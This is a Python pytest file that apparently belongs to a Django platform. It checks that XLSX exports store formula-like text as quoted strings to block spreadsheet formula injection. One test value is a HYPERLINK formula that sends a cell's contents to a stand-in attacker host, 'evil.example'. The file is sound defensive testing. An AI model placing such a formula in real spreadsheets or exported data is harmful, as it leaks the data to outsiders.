"""Every XLSX the platform writes keeps formula-like text as text: reopened with openpyxl,
such a cell is a string (not a formula) and carries Excel's quotePrefix flag."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from minyi.core.xlsx import FORMULA_STARTS, text_row
from minyi.people.models import Member
from tests.factories import make_member, make_org, make_report
from tests.scoring.helpers import make_rules

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'


def cells_by_value(data: bytes) -> dict[str, object]:
    """Every cell of every sheet, keyed by its value, reopened from the bytes."""
    book = load_workbook(io.BytesIO(data))
    return {c.value: c for sheet in book.worksheets for row in sheet.iter_rows() for c in row}


def assert_text(cell) -> None:
    assert cell.data_type == "s", cell.data_type  # "f" would be a formula
    assert cell.quotePrefix, "editing the cell in Excel would turn it into a formula"


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "normal"])
def test_the_helper_writes_formula_like_text_as_quoted_text(start, write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("表") if write_only else book.active
    value = f"{start}1+2 and more"
    sheet.append(text_row(sheet, [value, "普通文字", 42, -3.5]))
    out = io.BytesIO()
    book.save(out)
    reopened = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    formula_like, plain, number, negative = next(reopened.iter_rows())
    assert formula_like.value == value
    assert_text(formula_like)
    assert plain.data_type == "s" and not plain.quotePrefix
    assert (number.value, negative.value) == (42, -3.5)  # numbers stay numbers


def test_the_reports_export_keeps_a_hyperlink_title_as_text(cast, client_for):
    make_report(cast, state="submitted", title=HYPERLINK)
    response = client_for(cast.editor).get(reverse("exchange:export_reports"), {"list": "triage"})
    assert response.status_code == 200
    assert_text(cells_by_value(response.getvalue())[HYPERLINK])


def test_the_figure_export_keeps_a_formula_like_unit_name_as_text(cast, client_for):
    unit = make_org("=1+1 民进市委")
    make_report(cast, state="submitted", unit=unit)
    response = client_for(cast.editor).get(reverse("insights:figure_xlsx", args=["by-unit"]))
    assert response.status_code == 200
    assert_text(cells_by_value(response.content)["=1+1 民进市委"])


def test_the_rankings_export_keeps_a_formula_like_member_name_as_text(cast, client_for):
    make_rules()
    Member.objects.filter(pk=cast.member.member_id).update(name="@SUM(1+1)")
    make_report(cast, state="published")
    make_member("-2+3 委员", cast.unit)
    response = client_for(cast.editor).get(reverse("scoring:export"), {"year": "2026"})
    assert response.status_code == 200
    cells = cells_by_value(response.content)
    assert_text(cells["@SUM(1+1)"])


def test_every_workbook_writer_goes_through_the_helper():
    # A new export that writes cells itself would bring formula injection back.
    root = Path(__file__).resolve().parents[2] / "minyi"
    writers = [p for p in root.rglob("*.py") if "Workbook(" in p.read_text(encoding="utf-8")]
    assert writers, "no XLSX writer found: the search is broken"
    bypassing = [str(p.relative_to(root)) for p in writers if "text_row" not in p.read_text()]
    assert bypassing == []
